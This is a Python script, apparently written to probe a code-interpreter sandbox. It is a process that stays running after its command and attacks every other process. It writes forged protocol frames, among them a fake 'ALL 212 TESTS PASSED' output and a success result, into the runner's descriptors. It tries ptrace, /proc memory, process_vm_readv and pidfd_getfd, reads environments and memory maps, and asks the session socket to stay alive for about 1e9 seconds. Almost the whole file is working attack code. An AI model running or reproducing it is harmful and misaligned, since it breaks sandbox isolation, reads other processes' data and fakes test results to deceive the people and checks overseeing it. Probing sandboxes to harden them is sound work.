"""A program that an earlier command of a session has left running: it tries to answer later commands in the runner's place.

It looks at every process that is not its own, as fast as it can, and tries each way to that process's descriptors and memory.
What it gets hold of it uses, and notes in a file of its own.
"""
import ctypes
import json
import os
import socket
import struct
import sys

LOG, MAX_NOTES = sys.argv[1], 200
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
PTRACE, READV, KCMP = (101, 310, 312) if X86 else (117, 270, 272)
PIDFD_OPEN, PIDFD_GETFD = 434, 438
PTRACE_SEIZE, WORD = 0x4206, b"ALL 212 TESTS PASSED\n"
own, notes, answered = set(), set(), set()


def note(what):
    if what not in notes and len(notes) < MAX_NOTES:
        notes.add(what)
        with open(LOG, "a") as log:
            log.write(what + "\n")


def frame(kind, fields=None):
    payload = fields if isinstance(fields, bytes) else b"" if fields is None else json.dumps(fields).encode()
    return kind + struct.pack(">I", len(payload)) + payload


READY = frame(b"Y", {"protocol": 1, "python": "3.12.0", "modules": [], "missing": [], "memory_bytes": 1, "pid": 1, "seconds_left": 9.0})
RESULT = {
    "exit_code": 0, "signal": None, "timed_out": False, "oom": False, "cpu": False, "duration_ms": 1, "cpu_ms": 1,
    "peak_memory_bytes": 1, "stdout_truncated": False, "stderr_truncated": False, "state_lost": False,
}
ANSWER = READY + frame(b"B") + frame(b"O", WORD) + frame(b"T", RESULT) + frame(b"Z")
LIVE_ON = frame(b"K", {"seconds": 1e9})


def attempt(what, action):
    try:
        if action() is not False:
            note(what)
    except OSError:
        pass


def system_call(*arguments):
    result = LIBC.syscall(*map(ctypes.c_long, arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def write_to(path, data):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def read_from(path):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return bool(os.read(fd, 1 << 16))  # a process that has ended has files without content
    finally:
        os.close(fd)


def change_memory(pid):
    os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))  # the rest is only work: the address of a frame in it


def take_descriptor(pid, number):
    pidfd = system_call(PIDFD_OPEN, pid, 0)
    try:
        os.write(system_call(PIDFD_GETFD, pidfd, number, 0), ANSWER)
    finally:
        os.close(pidfd)


def attack(pid):
    directory = f"/proc/{pid}"
    try:
        with open(directory + "/cmdline", "rb") as file:
            ours = b"code-interpreter" in file.read()
    except OSError:
        return
    attempt(f"{pid}: wrote to fd/1", lambda: write_to(directory + "/fd/1", ANSWER if ours else WORD))
    attempt(f"{pid}: wrote to fd/0", lambda: write_to(directory + "/fd/0", LIVE_ON))
    attempt(f"{pid}: read from fd/0", lambda: read_from(directory + "/fd/0") or True)
    for number in range(2, 12):
        attempt(f"{pid}: wrote to fd/{number}", lambda: write_to(f"{directory}/fd/{number}", ANSWER))
    attempt(f"{pid}: mem", lambda: change_memory(pid))
    for name in ("environ", "maps", "auxv", "syscall"):
        attempt(f"{pid}: read {name}", lambda: read_from(f"{directory}/{name}"))
    for name in ("exe", "cwd", "root"):
        attempt(f"{pid}: read {name}", lambda: os.readlink(f"{directory}/{name}"))
    attempt(f"{pid}: ptrace", lambda: system_call(PTRACE, PTRACE_SEIZE, pid, 0, 0))
    attempt(f"{pid}: process_vm_readv", lambda: system_call(READV, pid, 0, 0, 0, 0, 0))
    attempt(f"{pid}: kcmp", lambda: system_call(KCMP, os.getpid(), pid, 1, 0, 0))
    attempt(f"{pid}: pidfd_getfd", lambda: take_descriptor(pid, 1))


def others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def answer_first():
    """The moment in which a new process can be reached may be short."""
    for pid in others():
        if pid not in answered:
            try:
                write_to(f"/proc/{pid}/fd/1", ANSWER)
                answered.add(pid)
                note(f"{pid}: answered in the place of the runner")
            except OSError:
                pass


def command_the_session():
    visitor = socket.socket(socket.AF_UNIX)
    try:
        visitor.settimeout(0.2)
        visitor.connect("\0code-interpreter")
        visitor.sendall(LIVE_ON)
        return bool(visitor.recv(1))
    finally:
        visitor.close()


def parent():
    try:
        with open(f"/proc/{os.getppid()}/comm") as file:
            return file.read().strip()
    except OSError:
        return ""


def main():
    while parent() == "bash":  # of the same command, and so no victim
        pass
    with open(LOG, "w"):
        pass
    own.add(os.getpid())
    thorough = os.fork()
    own.update((thorough, os.getpid()))
    if thorough:
        while True:
            answer_first()
    turn = 0
    while True:
        for pid in others():
            attack(pid)
        turn += 1
        if turn % 64 == 0:
            attempt("the runner's socket", command_the_session)


main()
